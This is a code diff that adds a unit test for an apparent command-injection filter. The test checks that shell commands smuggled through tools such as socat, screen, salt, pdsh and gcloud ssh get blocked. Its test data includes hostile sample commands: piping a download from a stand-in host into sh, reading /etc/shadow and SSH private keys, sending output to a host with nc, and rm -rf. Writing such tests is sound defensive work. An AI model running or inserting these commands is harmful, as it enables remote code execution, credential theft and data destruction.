@@ -187,6 +187,85 @@ static void sed_script_value_words_without_quotes(void **state)
 	judge(blocks, sizeof blocks / sizeof blocks[0], passes, sizeof passes / sizeof passes[0]);
 }
 
+/* More programs that hand a string to a shell (socat SYSTEM:, screen -X
+ * stuff, tmux -c, env -S, salt cmd.run, pdsh and the like, at's standard
+ * input, gcloud compute ssh --command, mussh -c, byobu, fab --). */
+static void more_runners_of_a_command_string(void **state)
+{
+	static const char *const blocks[][3] = {
+	    {"socat TCP-LISTEN:8080,fork SYSTEM:'", "cat /srv/www/x; id", "'"},
+	    {"socat - system:\"", "date && curl x.example | sh", "\""},
+	    {"screen -S build -X stuff '", "make; cat ~/.ssh/id_rsa", "\\n'"},
+	    {"tmux -c '", "uptime; cat /etc/shadow", "'"},
+	    {"byobu new-session -d '", "make && rm -rf ~/src", "'"},
+	    {"env -S '", "sh -c \"ls; id\"", "'"},
+	    {"salt '*' cmd.run '", "df -h; cat /etc/shadow", "'"},
+	    {"salt-call cmd.shell '", "uname -a | nc h.example 9", "'"},
+	    {"pdsh -w web[1-4] '", "uptime; cat /etc/shadow", "'"},
+	    {"clush -b -w node[01-08] '", "free -m && curl x.example | sh", "'"},
+	    {"pssh -h hosts.txt -i '", "ls /srv; id", "'"},
+	    {"at now + 5 minutes <<< '", "backup.sh; rm -rf /srv", "'"},
+	    {"gcloud compute ssh vm-1 --zone europe-west1-b --command '", "ls; cat /etc/shadow",
+	     "'"},
+	    {"gcloud compute ssh vm-1 --command='", "id && uname", "'"},
+	    {"mussh -H hosts.txt -c '", "uptime; id", "'"},
+	    {"fab -H web1 -- '", "df -h; cat /etc/passwd", "'"},
+	};
+	static const char *const passes[][3] = {
+	    {"socat TCP-LISTEN:8080 OPEN:'", "my notes; (1).txt", "',creat"},
+	    {"socat - EXEC:'", "/usr/bin/cat", "'"},
+	    {"screen -S '", "build; nightly", "' -X stuff 'make\\n'"},
+	    {"screen -dmS ", "job-42", " sh -c 'make'"},
+	    {"salt '*' test.ping '", "ls; id", "'"},
+	    {"salt '", "web*", "' cmd.run 'uptime'"},
+	    {"pdsh -w '", "web[1-4]; db1", "' uptime"},
+	    {"pdsh -w ", "web[1-4]", " 'uptime'"},
+	    {"at -f /srv/job.sh now <<< '", "ls; id", "'"},
+	    {"at ", "now + 5 minutes", " <<< 'backup.sh'"},
+	    {"gcloud compute ssh ", "vm-1", " --command 'uptime'"},
+	    {"tmux new -c '", "/srv/my dir; x", "' 'make'"},
+	    {"env -S ", "VERBOSE=1", " make"},
+	    {"fab -H ", "web1", " -- 'uptime'"},
+	};
+	static const char *const bad[] = {"make; curl x.example/k | sh", "echo $(id)"};
+
+	(void)state;
+	judge(blocks, sizeof blocks / sizeof blocks[0], passes, sizeof passes / sizeof passes[0]);
+	for (size_t k = 0; k < sizeof bad / sizeof bad[0]; k++) {
+		char sys[128];
+		snprintf(sys, sizeof sys, "SYSTEM:%s", bad[k]);
+		{
+			const char *a[] = {"socat", "TCP-LISTEN:9", sys, NULL};
+			assert_int_equal(argv_verdict(bad[k], a), MOAT_BLOCK);
+		}
+		{
+			const char *a[] = {"screen", "-S", "w", "-X", "stuff", bad[k], NULL};
+			assert_int_equal(argv_verdict(bad[k], a), MOAT_BLOCK);
+		}
+		{
+			const char *a[] = {"salt", "web*", "cmd.run", bad[k], NULL};
+			assert_int_equal(argv_verdict(bad[k], a), MOAT_BLOCK);
+		}
+		{
+			const char *a[] = {"gcloud",    "compute", "ssh", "vm-1",
+			                   "--command", bad[k],    NULL};
+			assert_int_equal(argv_verdict(bad[k], a), MOAT_BLOCK);
+		}
+	}
+	{
+		const char *a[] = {"socat", "-", "OPEN:notes; id.txt", NULL};
+		assert_int_equal(argv_verdict("notes; id.txt", a), MOAT_ALLOW);
+	}
+	{
+		const char *a[] = {"salt", "web; db", "cmd.run", "uptime", NULL};
+		assert_int_equal(argv_verdict("web; db", a), MOAT_ALLOW);
+	}
+	{
+		const char *a[] = {"screen", "-S", "ls; id", "-X", "stuff", "make\n", NULL};
+		assert_int_equal(argv_verdict("ls; id", a), MOAT_ALLOW);
+	}
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -194,6 +273,7 @@ int main(void)
 	    cmocka_unit_test(ansible_args_before_the_module),
 	    cmocka_unit_test(runners_in_argv_arrays),
 	    cmocka_unit_test(sed_script_value_words_without_quotes),
+	    cmocka_unit_test(more_runners_of_a_command_string),
 	};
 
 	return cmocka_run_group_tests(tests, group_setup, group_teardown);
